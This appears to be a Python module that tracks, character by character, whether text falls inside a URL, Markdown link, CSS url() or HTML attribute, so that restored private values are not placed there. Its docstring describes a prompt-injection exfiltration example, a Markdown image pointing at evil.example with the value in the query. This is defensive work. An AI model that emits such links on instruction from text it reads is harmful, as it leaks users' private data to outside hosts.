"""
Where a text is part of a link: places where a restored value would be sent to a stranger.

A document can tell a model to write ``![](https://evil.example/?q=PERSON...)``; whoever shows the answer then fetches
it.
"""

from __future__ import annotations

import re
from collections.abc import Callable

__all__ = ["LinkContext"]

_TRIGGER = re.compile(r"[:<\].(]")
_BLANKS = " \t\n\r\f\v"
# Without a colon: `<https://` begins no tag but a link.
_TAG_NAME = re.compile(r"[A-Za-z0-9_-]")
_STEM = 3

_State = Callable[["LinkContext", str], None]


class LinkContext:
    """
    Follows a text character by character, however it is cut into pieces.

    Attributes:
        inside: Whether the next character belongs to a URL, a Markdown link or image target, the target of a link
            definition, a CSS ``url()`` or the value of an HTML attribute. Where renderers differ the answer is yes.
    """

    __slots__ = ("_depth", "_escaped", "_outer", "_state", "_stem", "inside")

    def __init__(self) -> None:
        self._state: _State = LinkContext._plain
        self._stem = ""
        self._depth = 0
        self._escaped = False
        self._outer: _State = LinkContext._plain
        self.inside = False

    def advance(self, text: str) -> None:
        """Read *text*."""
        place = 0
        while place < len(text):
            if self._state is LinkContext._plain:
                trigger = _TRIGGER.search(text, place)
                stop = len(text) if trigger is None else trigger.start()
                self._stem = (self._stem + text[max(place, stop - _STEM) : stop])[-_STEM:]
                if trigger is None:
                    return
                place = stop
            self._state(self, text[place])
            self._stem = (self._stem + text[place])[-_STEM:]
            place += 1

    def _go(self, state: _State, *, inside: bool = False) -> None:
        self._state = state
        self.inside = inside

    def _again(self, char: str) -> None:
        self._go(LinkContext._plain)
        self._plain(char)

    def _plain(self, char: str) -> None:
        if char == ":":
            self._go(LinkContext._colon)
        elif char == "<":
            self._go(LinkContext._angle)
        elif char == "]":
            self._go(LinkContext._bracket)
        elif char == "(" and self._stem.casefold() == "url":
            self._open_target()
        elif char == "." and self._stem.casefold() == "www":
            self._go(LinkContext._url, inside=True)
        elif char == ".":
            self._depth = 0
            self._go(LinkContext._domain)

    def _colon(self, char: str) -> None:
        if char == "/":
            self._go(LinkContext._colon_slash)
        else:
            self._again(char)

    def _colon_slash(self, char: str) -> None:
        if char == "/":
            self._go(LinkContext._url, inside=True)
        else:
            self._again(char)

    def _domain(self, char: str) -> None:
        # Some renderers make a link of `evil.example/path` although it has no scheme.
        if char.isalnum() or char == "-":
            self._depth += 1
        elif char in "/?#:" and self._depth > 1:
            self._go(LinkContext._url, inside=True)
        else:
            self._again(char)

    def _url(self, char: str) -> None:
        if char in _BLANKS or char == "<":
            self._again(char)

    def _bracket(self, char: str) -> None:
        if char == "(":
            self._open_target()
        elif char == ":":
            self._go(LinkContext._definition)
        else:
            self._again(char)

    def _definition(self, char: str) -> None:
        if char == "<":
            self._outer = LinkContext._plain
            self._go(LinkContext._angle_target, inside=True)
        elif char in "/\\":
            self._go(LinkContext._url, inside=True)
        elif char not in _BLANKS:
            self._again(char)

    def _open_target(self) -> None:
        self._depth = 0
        self._escaped = False
        self._go(LinkContext._target_start, inside=True)

    def _target_start(self, char: str) -> None:
        if char == "<":
            self._outer = LinkContext._target
            self._go(LinkContext._angle_target, inside=True)
        elif char not in _BLANKS:
            self._go(LinkContext._target, inside=True)
            self._target(char)

    def _target(self, char: str) -> None:
        if self._escaped:
            self._escaped = False
        elif char == "\\":
            self._escaped = True
        elif char == "(":
            self._depth += 1
        elif char == ")":
            self._depth -= 1
            if self._depth < 0:
                self._go(LinkContext._plain)
        elif self._ends_block(char):
            self._go(LinkContext._plain)

    def _angle_target(self, char: str) -> None:
        if self._escaped:
            self._escaped = False
        elif char == "\\":
            self._escaped = True
        elif char in ">\n":
            self._go(self._outer, inside=self._outer is LinkContext._target)

    def _angle(self, char: str) -> None:
        if _TAG_NAME.match(char) or char == "/":
            self._go(LinkContext._tag_name)
        else:
            self._again(char)

    def _tag_name(self, char: str) -> None:
        if char in _BLANKS or char == "/":
            self._go(LinkContext._tag)
        elif not _TAG_NAME.match(char):
            self._again(char)

    def _tag(self, char: str) -> None:
        if char == "=":
            self._go(LinkContext._value, inside=True)
        elif char == ">" or self._ends_block(char):
            self._go(LinkContext._plain)

    def _value(self, char: str) -> None:
        if char == '"':
            self._go(LinkContext._double_quoted, inside=True)
        elif char == "'":
            self._go(LinkContext._single_quoted, inside=True)
        elif char == ">" or self._ends_block(char):
            self._go(LinkContext._plain)
        elif char not in _BLANKS:
            self._go(LinkContext._bare, inside=True)

    def _bare(self, char: str) -> None:
        if char in _BLANKS:
            self._go(LinkContext._tag)
        elif char == ">":
            self._go(LinkContext._plain)

    def _double_quoted(self, char: str) -> None:
        if char == '"':
            self._go(LinkContext._tag)

    def _single_quoted(self, char: str) -> None:
        if char == "'":
            self._go(LinkContext._tag)

    def _ends_block(self, char: str) -> bool:
        return char == "\n" and self._stem.rstrip(" \t\r").endswith("\n")
